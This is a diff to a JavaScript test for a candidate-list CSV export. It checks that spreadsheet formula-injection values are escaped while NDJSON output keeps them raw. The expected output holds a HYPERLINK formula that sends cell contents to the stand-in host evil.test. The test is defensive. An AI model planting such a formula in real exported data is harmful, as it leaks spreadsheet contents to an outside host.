@@ -61,8 +61,8 @@ describe('candidates list', () => {
     await apply(jobUrl, { firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
     const safe = (await list('csv', '-o', 'csv')).stdout
     expect(safe).toContain(`,"'=HYPERLINK(""http://evil.test/?""&B2;""open"")",'${lastName},`)
-    expect(safe).toContain(",'+212 600 000 000,")
-    expect(safe).toContain(",Bonjour;'=1+1,")
+    expect(safe).toContain(',+212 600 000 000,')
+    expect(safe).toContain(`,"Bonjour;'=1+1",`)
     const written = JSON.parse((await list('csv', '-o', 'ndjson')).stdout)
     expect(written).toMatchObject({ firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
   })
